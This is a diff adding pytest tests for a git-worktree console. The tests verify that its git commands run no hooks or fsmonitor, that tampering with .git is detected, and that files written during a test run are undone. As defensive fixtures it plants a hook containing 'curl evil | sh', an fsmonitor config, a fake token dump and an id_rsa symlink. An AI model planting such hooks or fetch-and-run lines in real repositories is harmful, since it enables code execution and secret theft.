@@ -8,19 +8,23 @@ from pathlib import Path
 
 import pytest
 
+from console.config import DEFAULT_SENSITIVE_PATHS
 from console.worktree import (
     FileStat,
     GitError,
     NotARepositoryError,
     NothingToCommitError,
     PushError,
+    TestWrites,
     commit_all,
     create_worktree,
     diff,
     push,
     remove_worktree,
+    snapshot_files,
     snapshot_main,
     touched_sensitive,
+    undo_test_writes,
     verify_main_untouched,
 )
 from tests.service_repo import git
@@ -379,3 +383,153 @@ async def test_remote_asking_for_credentials_fails_fast_without_fallback(clone: 
     finally:
         server.shutdown()
         server.server_close()
+
+
+# --- git never executes anything from the repository --------------------------------------
+
+
+def plant_hooks(git_dir: Path, marker: Path) -> None:
+    """Executable hooks for everything the console does, each leaving a line in ``marker``."""
+    for name in (
+        "post-checkout",
+        "reference-transaction",
+        "pre-commit",
+        "prepare-commit-msg",
+        "commit-msg",
+        "post-commit",
+        "pre-push",
+        "post-index-change",
+    ):
+        hook = git_dir / "hooks" / name
+        hook.write_text(f"#!/bin/sh\necho {name} >> {marker}\n")
+        hook.chmod(0o755)
+
+
+async def test_no_git_command_of_the_console_runs_a_hook_or_an_fsmonitor(
+    tmp_path: Path, clone: Path
+) -> None:
+    marker = tmp_path / "executed.txt"
+    plant_hooks(clone / ".git", marker)
+    monitor = tmp_path / "fsmonitor.sh"
+    monitor.write_text(f"#!/bin/sh\necho fsmonitor >> {marker}\n")
+    monitor.chmod(0o755)
+    git(clone, "config", "core.fsmonitor", str(monitor))
+    git(clone, "status")  # the planted hooks and monitor do run for plain git
+    assert marker.exists()
+    marker.unlink()
+
+    before = await snapshot_main(clone)
+    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
+    (wt.path / "src" / "app.js").write_text("module.exports = 2;\n")
+    await diff(wt)
+    tree = await snapshot_files(wt)
+    await undo_test_writes(wt, tree)
+    await commit_all(wt, "fix")
+    await push(wt, "origin", wt.branch)
+    await verify_main_untouched(clone, before)
+    await remove_worktree(clone, wt, delete_branch=True)
+
+    assert not marker.exists(), marker.read_text()
+
+
+async def test_main_checkout_check_names_a_planted_hook_and_a_changed_git_config(
+    clone: Path,
+) -> None:
+    before = await snapshot_main(clone)
+    hook = clone / ".git" / "hooks" / "post-checkout"
+    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
+    with (clone / ".git" / "config").open("a") as fh:
+        fh.write("[core]\n\tfsmonitor = /tmp/evil\n")
+
+    problems = await verify_main_untouched(clone, before)
+
+    assert problems == ["git directory changed: .git/config, .git/hooks/post-checkout"]
+    after_write = await snapshot_main(clone)
+    hook.chmod(0o755)  # only the executable bit changes: the hook now runs
+    assert await verify_main_untouched(clone, after_write) == [
+        "git directory changed: .git/hooks/post-checkout"
+    ]
+
+
+# --- what a test run writes never reaches the diff ------------------------------------------
+
+
+async def test_undo_test_writes_keeps_claudes_edits_and_drops_what_the_tests_wrote(
+    tmp_path: Path, clone: Path
+) -> None:
+    (clone / "keep.txt").write_text("tracked\n")
+    (clone / "gone-later.txt").write_text("tracked\n")
+    git(clone, "add", ".")
+    git(clone, "commit", "-q", "-m", "more files")
+    git(clone, "push", "-q", "origin", "main")
+    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
+    # Claude's change: an edit and a new test file.
+    (wt.path / "src" / "app.js").write_text("module.exports = 2;\n")
+    (wt.path / "src" / "app.test.js").write_text("// regression test\n")
+    claude_diff = (await diff(wt)).text
+    before = await snapshot_files(wt)
+    # The test run: a dump, a nested directory, a link out, edits of Claude's files and of a
+    # tracked one, a deletion, a chmod, a file hidden behind a rewritten .gitignore, and
+    # a file in an ignored directory.
+    (wt.path / "env-dump.txt").write_text("GITHUB_TOKEN=ghp_x\n")
+    (wt.path / "out" / "deep").mkdir(parents=True)
+    (wt.path / "out" / "deep" / "report.json").write_text("{}\n")
+    (wt.path / "id_rsa").symlink_to(tmp_path / "home-key")
+    (wt.path / "src" / "app.js").write_text("module.exports = 'exfiltrated';\n")
+    (wt.path / "src" / "app.test.js").unlink()
+    (wt.path / "keep.txt").write_text("changed by a test\n")
+    (wt.path / "gone-later.txt").unlink()
+    (wt.path / "src").chmod(0o755)
+    (wt.path / ".gitignore").write_text("node_modules/\nhidden-dump.txt\n")
+    (wt.path / "hidden-dump.txt").write_text("secret\n")
+    (wt.path / "node_modules").mkdir()
+    (wt.path / "node_modules" / "cache.json").write_text("{}\n")
+
+    written = await undo_test_writes(wt, before)
+
+    assert sorted(written.created) == [
+        "env-dump.txt",
+        "hidden-dump.txt",
+        "id_rsa",
+        "out/deep/report.json",
+    ]
+    assert sorted(written.changed) == [
+        ".gitignore",
+        "gone-later.txt",
+        "keep.txt",
+        "src/app.js",
+        "src/app.test.js",
+    ]
+    assert (await diff(wt)).text == claude_diff
+    assert (wt.path / "src" / "app.js").read_text() == "module.exports = 2;\n"
+    assert not (wt.path / "id_rsa").is_symlink() and not (wt.path / "env-dump.txt").exists()
+    assert (wt.path / "node_modules" / "cache.json").exists(), "ignored files are left alone"
+    assert await undo_test_writes(wt, before) == TestWrites()
+
+
+async def test_snapshot_of_the_worktree_leaves_its_index_and_files_alone(clone: Path) -> None:
+    wt = await create_worktree(clone, FP, base_branch="main", remote="origin")
+    (wt.path / "new.js").write_text("x\n")
+    status = git(wt.path, "status", "--porcelain")
+
+    tree = await snapshot_files(wt)
+
+    assert git(wt.path, "status", "--porcelain") == status == "?? new.js"
+    assert "new.js" in git(wt.path, "ls-tree", "-r", "--name-only", tree).splitlines()
+
+
+def test_default_sensitive_paths_flag_what_defines_the_test_run() -> None:
+    changed = [
+        "package.json",
+        "packages/api/package.json",
+        ".npmrc",
+        "jest.config.js",
+        "vitest.config.ts",
+        ".mocharc.yml",
+        "lib/users.js",
+        "test/users.test.js",
+        "docs/package.json.md",
+    ]
+    hits = touched_sensitive([FileStat(p, 1, 0) for p in changed], DEFAULT_SENSITIVE_PATHS)
+
+    assert hits == changed[:6]
